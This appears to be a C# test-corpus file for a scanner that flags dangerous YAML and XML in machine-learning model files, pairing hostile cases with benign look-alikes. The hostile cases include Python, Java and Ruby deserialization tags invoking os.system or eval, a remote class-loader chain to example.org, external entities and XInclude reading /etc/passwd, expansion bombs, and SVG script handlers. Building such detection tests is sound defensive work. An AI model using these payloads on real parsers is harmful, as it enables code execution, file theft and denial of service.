using System.Text;

namespace MlSecPol.Engine.Tests.Corpus;

/// <summary>YAML and XML that make parsers act, and what looks like it.</summary>
internal static class MarkupCases
{
    public static IEnumerable<CorpusCase> All() =>
    [
        Hostile("python apply", "model.yaml", "a: !!python/object/apply:os.system ['true']\n"),
        Hostile("python new", "model.yml", "- !!python/object/new:subprocess.Popen [['true']]\n"),
        Hostile("python module", "model.yaml", "x: !!python/module:os\n"),
        Hostile("python name", "model.yaml", "x: !!python/name:os.system\n"),
        Hostile("python whole tag", "model.yaml", "x: !<tag:yaml.org,2002:python/object/apply:builtins.eval> ['1']\n"),
        Hostile("python tag by handle", "model.yaml", "%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\nx: !p!os.system ['true']\n"),
        Hostile("python tag in escapes", "model.yaml", "x: !!python%2Fobject%2Fapply:os.system ['true']\n"),
        Hostile("python tag of a key", "model.yaml", "? !!python/object/apply:os.system ['true']\n: 1\n"),
        Hostile("python in flow", "model.yaml", "{a: !!python/object/apply:os.system ['true']}\n"),
        Hostile("python in the second document", "model.yaml", "a: 1\n---\nb: !!python/object/apply:os.system ['true']\n"),
        Hostile("python unknown call", "model.yaml", "b: !!python/object/apply:some_module.some_function []\n"),
        Hostile("python before a break", "model.yaml", "a: !!python/object/apply:os.system ['true']\nb: [1, 2\n: }\n"),
        Hostile("java", "model.yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://example.org/']]]]\n"),
        Hostile("ruby", "model.yaml", "--- !ruby/object:Gem::Installer\ni: x\n"),
        Hostile("javascript", "model.yaml", "f: !!js/function 'function () { return 1 }'\n"),
        Hostile("hydra target", "model_config.yaml", "model:\n  _target_: os.system\n  command: 'true'\n"),
        Hostile("hydra target of builtins", "model_config.yaml", "preprocessor:\n  _target_: builtins.exec\n"),
        Hostile("loader module", "MLmodel", "flavors:\n  python_function:\n    loader_module: subprocess\n"),
        Hostile("hyper apply", "hyperparams.yaml", "x: !apply:os.system ['true']\n"),
        Hostile("alias bomb", "model.yaml", "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + string.Concat(Enumerable.Range(0, 8).Select(i => $"{(char)('b' + i)}: &{(char)('b' + i)} [{string.Join(',', Enumerable.Repeat("*" + (char)('a' + i), 10))}]\n"))),
        Hostile("template in YAML", "instruct.yaml", "instruction_template: |-\n  {{ ''.__class__.__mro__ }}\n"),
        Hostile("entity of a file", "model.pmml", """<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header description="&x;"/></PMML>"""),
        Hostile("entity of an address", "model.xml", """<!DOCTYPE net [<!ENTITY x SYSTEM "http://example.org/x">]><net>&x;</net>"""),
        Hostile("parameter entity", "model.xml", """<?xml version="1.0"?><!DOCTYPE net [<!ENTITY % p PUBLIC "a" "http://example.org/p.dtd"> %p;]><net/>"""),
        Hostile("outside document type", "model.xml", """<!DOCTYPE net SYSTEM "http://example.org/net.dtd"><net/>"""),
        Hostile("outside document type of a model", "model.pmml", """<!DOCTYPE PMML PUBLIC "-//a//b//EN" "http://example.org/p.dtd"><PMML version="4.4"/>"""),
        Hostile("entity bomb", "model.xml", "<!DOCTYPE l [<!ENTITY a \"" + new string('x', 100) + "\">" + string.Concat(Enumerable.Range(0, 8).Select(i => $"<!ENTITY {(char)('b' + i)} \"{string.Concat(Enumerable.Repeat($"&{(char)('a' + i)};", 10))}\">")) + "]><l>&i;</l>"),
        Hostile("inclusion", "model.xml", """<net xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></net>"""),
        Hostile("java beans", "model.xml", """<?xml version="1.0"?><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>"""),
        Hostile("style sheet script", "model.xml", """<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt"><m:script language="C#">x</m:script></xsl:stylesheet>"""),
        Hostile("document type of a network", "model.xml", """<?xml version="1.0"?><!DOCTYPE net [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><net name="n" version="11"><layers><layer id="0" name="in" type="Parameter" version="opset1"/></layers><edges/></net>"""),
        Hostile("style sheet of a network", "model.xml", """<?xml version="1.0"?><?xml-stylesheet href="http://example.org/x.xsl"?><net name="n" version="11"><layers><layer id="0" name="in" type="Parameter" version="opset1"/></layers><edges/></net>"""),
        Hostile("list of plug-ins", "plugins.xml", """<ie><plugins><plugin name="CPU" location="/tmp/own.so"/></plugins></ie>"""),
        Hostile("kernel of a custom layer", "custom.xml", """<CustomLayer name="X" type="SimpleGPU" version="1"><Kernel entry="e"><Source filename="../../own.cl"/></Kernel></CustomLayer>"""),
        Hostile("drawing with a script", "a.svg", """<svg xmlns="http://www.w3.org/2000/svg"><script>void 0</script></svg>"""),
        Hostile("drawing with a handler", "a.svg", """<svg xmlns="http://www.w3.org/2000/svg" onload="void 0"/>"""),
        Hostile("drawing with code for an address", "a.svg", """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:void 0"><text>x</text></a></svg>"""),
        new("markup: entity in UTF-16", "model.xml", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("""<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net>&x;</net>""")], true),
        Clean("configuration", "config.yaml", "model:\n  name: x\n  layers: [1, 2, 3]\n  act: 'gelu'\n# os.system\nurl: https://example.org/\n"),
        Clean("nemo model", "model_config.yaml", "preprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\noptim:\n  _target_: torch.optim.AdamW\ndecoder:\n  _target_: nemo.collections.asr.modules.ConvASRDecoder\ntarget: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\n"),
        Clean("plain python tags", "hparams.yaml", "a: !!python/tuple [1, 2]\nb: !!python/unicode 'x'\nc: !!float 1\n"),
        Clean("namespace of arguments", "hparams.yaml", "hparams: !!python/object:argparse.Namespace\n  lr: 0.1\n"),
        Clean("aliases", "compose.yaml", "a: &a {x: 1, y: 2}\nb: *a\nc:\n  <<: *a\n  z: 3\n"),
        Clean("several documents", "a.yml", "---\na: 1\n---\nb: 2\n...\n"),
        Clean("local tags", "cloud.yaml", "a: !Ref x\nb: !Sub '${y}'\nc: !GetAtt a.b\n"),
        Clean("mlflow model", "MLmodel", "artifact_path: model\nflavors:\n  python_function:\n    env: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.0\n  sklearn:\n    code: null\n"),
        Clean("cache folder of a library", "hyperparams.yaml", "cache: !name:huggingface_hub.constants.HUGGINGFACE_HUB_CACHE\n"),
        Clean("speech model", "hyperparams.yaml", "lr: 0.1\nmodel: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: 80\nact: !name:torch.nn.LeakyReLU\nn: !ref <lr>\n"),
        Clean("tags in text", "doc.yaml", "text: |\n  a: !!python/object/apply:os.system ['true']\nquoted: '!!python/object/apply:os.system'\n# !!javax.script.ScriptEngineManager\n"),
        Clean("JSON in YAML", "config.yml", """{"a": [1, 2], "b": {"c": "d"}}"""),
        Clean("plain template in YAML", "instruct.yaml", "instruction_template: |-\n  {%- for message in messages %}{{ message['content'] }}{%- endfor %}\n"),
        Clean("predictive model", "model.pmml", """<?xml version="1.0" encoding="UTF-8"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Extension name="user" value="someone"/></Header><DataDictionary numberOfFields="1"><DataField name="exec" optype="continuous" dataType="double"/></DataDictionary></PMML>"""),
        Clean("network", "model.xml", """<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="os.system" type="Parameter" version="opset1"/></layers></net>"""),
        Clean("known document type", "Info.plist", """<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>a</key><string>b</string></dict></plist>"""),
        Clean("formal document type", "service.xml", """<?xml version="1.0"?><!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "https://jetty.org/configure_10_0.dtd"><Configure id="a"/>"""),
        Clean("drawing", "a.svg", """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://example.org/"><text font-size="9" one="1">x</text></a></svg>"""),
        Clean("kernel beside", "custom.xml", """<CustomLayer name="X" type="SimpleGPU" version="1"><Kernel entry="e"><Source filename="own.cl"/></Kernel></CustomLayer>"""),
        Clean("model card", "README.md", "<p align=\"center\">\n# Model\n<br>\n\nUse `trust_remote_code=True`.\n"),
        Clean("requirements", "requirements.txt", "torch==2.6.0\ntransformers>=4.45\n"),
    ];

    private static CorpusCase Clean(string name, string file, string text) => new("markup: " + name, file, Encoding.UTF8.GetBytes(text), false);

    private static CorpusCase Hostile(string name, string file, string text) => new("markup: " + name, file, Encoding.UTF8.GetBytes(text), true);
}
